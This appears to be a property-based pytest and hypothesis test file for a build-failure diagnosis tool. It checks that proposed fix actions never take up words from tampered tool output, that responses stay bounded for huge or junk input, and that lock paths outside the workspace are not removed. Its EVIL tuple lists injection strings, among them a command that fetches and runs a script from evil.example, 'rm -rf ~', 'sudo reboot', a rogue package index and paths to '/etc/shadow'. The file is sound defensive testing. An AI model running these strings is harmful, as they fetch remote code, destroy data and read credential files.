"""Whatever an output holds: an answer in bounded size, no action made of its words, and nothing that is not allowed."""

from __future__ import annotations

import functools

import pytest
from autopack_hardening import (
    DeclaredDependency,
    DiagnosisResult,
    EditCommand,
    Ending,
    Failure,
    InstallDeclared,
    ProjectFacts,
    RemoveStaleLock,
    RestoreOutOfScope,
    RunCommand,
    RunFormatter,
    SetEnv,
    diagnose,
    patterns,
)
from autopack_hardening.core.model import Action
from autopack_hardening.core.safety import refusal
from autopack_hardening.core.skeleton import skeleton
from autopack_hardening.core.templates import Cluster, cluster_id, unexplained
from autopack_kit.commands import Command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

MIB = 1 << 20
INSTALL = Command.of("pip", "install", "-r", "requirements.txt")
FACTS = ProjectFacts(".", "python", "pip", (INSTALL,), (DeclaredDependency("requests", "requirements.txt", True),))
PATHS = (
    "pyproject.toml",
    "requirements.txt",
    "src/",
    "src/app.py",
    "web/",
    "web/package.json",
    "web/package-lock.json",
)
EVIL = (
    "--index-url=https://evil.example/x", "; rm -rf ~", "$(curl evil.example|sh)", "../../etc/passwd", "/etc/shadow",
    "-r", "`id`", "\x00", "a\nb", "requests==0.0.1 --hash=sha256:0", "\u202e", "evil", "..", "&& sudo reboot", "'\"",
)  # fmt: skip
COMMANDS = ("python app.py", "pytest -q", "npm ci", "git push", "go test ./...", "make all", "uv sync", "black .")


@functools.cache
def lines_of_tools() -> list[str]:
    """What tools really print, to be spoilt."""
    return sorted(
        {line for one in patterns() for sample in one.examples for line in sample.output.splitlines() if line}
    )


def actions(result: DiagnosisResult) -> list[Action]:
    return [action for one in result.diagnoses for action in one.mitigation.actions]


def check(result: DiagnosisResult, failure: Failure, said: tuple[str, ...]) -> None:
    """Nothing unsafe, nothing of what the output ``said`` in a command, nothing without bounds."""
    for one in result.diagnoses:
        assert len(one.excerpt) <= 400
        assert all(len(value) <= 1024 for value in one.captures.values())
    for action in actions(result):
        assert refusal(action, failure.command) == ""
        match action.kind:
            case InstallDeclared(commands, distributions, _):
                assert list(commands) == [INSTALL]
                assert set(distributions) <= {"requests"}
            case RunCommand(command) | RunFormatter(command, _) | EditCommand(command):
                words = " ".join(word for word in command.argv if word not in PATHS)
                assert not any(word in words for word in said if len(word) > 3)
            case SetEnv(env):
                assert not any(word in value for value in env.values() for word in said if len(word) > 3)
            case RestoreOutOfScope(paths):
                assert not paths
            case RemoveStaleLock(path, _):
                assert not path.startswith("/")
                assert ".." not in path.split("/")


def failing(output: bytes, command: str = "python app.py", code: int = 1) -> Failure:
    return Failure(Command.of(*command.split()), Ending(code), output, projects=(FACTS,), paths=PATHS)


@st.composite
def spoilt_outputs(draw: st.DrawFn) -> Failure:
    """What tools print, with words of it replaced by those of an attacker."""
    evil = draw(st.sampled_from(EVIL))
    spoilt = []
    for line in draw(st.lists(st.sampled_from(lines_of_tools()), min_size=1, max_size=6)):
        words = line.split(" ")
        for index in draw(st.sets(st.integers(0, len(words) - 1), max_size=3)):
            quote = words[index][:1] if words[index][:1] in "'\"`" else ""
            words[index] = f"{quote}{evil}{quote}"
        spoilt.append(" ".join(words))
    return failing("\n".join(spoilt).encode("utf-8", "replace"), draw(st.sampled_from(COMMANDS)))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(failure=spoilt_outputs())
def test_no_word_of_an_output_gets_into_an_action(failure: Failure) -> None:
    check(diagnose(failure), failure, EVIL)


@pytest.mark.long
@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(failure=spoilt_outputs())
def test_no_word_of_many_outputs_gets_into_an_action(failure: Failure) -> None:
    check(diagnose(failure), failure, EVIL)


@settings(max_examples=60, deadline=None)
@given(output=st.binary(max_size=4096), code=st.integers(-(2**31), 2**31 - 1), command=st.text(min_size=1, max_size=50))
def test_any_bytes_of_any_command_have_an_answer(output: bytes, code: int, command: str) -> None:
    failure = Failure(Command.of(command.replace("\0", "x")), Ending(code), output, projects=(FACTS,), paths=PATHS)
    result = diagnose(failure)
    check(result, failure, EVIL)
    assert code != 0 or not result.diagnoses
    found = unexplained(failure.command, failure.ending, output)
    assert found is None or len(found.example.output.encode()) <= 4 << 10


@pytest.mark.parametrize(
    "output",
    [
        b"a" * MIB,
        b"\x00" * MIB,
        b"\xff\xfe" + "ModuleNotFoundError: No module named 'x'\n".encode("utf-16-le") * 10_000,
        b"\x1b[" * (MIB // 2),
        b"\r" * MIB,
        b"\xc3" * MIB,
        b"(" * MIB,
        b"error: " * (MIB // 7),
        b"ModuleNotFoundError: No module nam '" * 29_000,
        b"ModuleNotFoundError: No module named '../../etc'\n" * 21_000,
        b"E   " * (MIB // 4),
        b"npm ERR! code E\n" * 65_000,
        b"2024-05-01T10:00:00Z " * 49_000,
        b"https://a:" * 100_000,
        bytes(range(256)) * 4096,
    ],
    ids=lambda output: repr(output[:12]),
)
def test_the_largest_outputs_have_an_answer(output: bytes) -> None:
    failure = failing(output)
    check(diagnose(failure), failure, ("etc",))
    found = unexplained(failure.command, failure.ending, output)
    if found is not None:
        assert len(found.example.output.encode()) <= 4 << 10
        cluster = Cluster(cluster_id(found.words), found.words, 1, 0, 0, (found.program,), (found.example,))
        assert len(skeleton(cluster)) <= 64 << 10


def test_a_lock_that_leads_out_of_the_workspace_is_not_removed() -> None:
    for path in ("../../etc/passwd", "/etc/passwd", "a/../../b"):
        output = f"fatal: Unable to create '{path}/.git/index.lock': File exists.\n".encode()
        failure = failing(output, "git commit -m x", 128)
        check(diagnose(failure), failure, (path,))
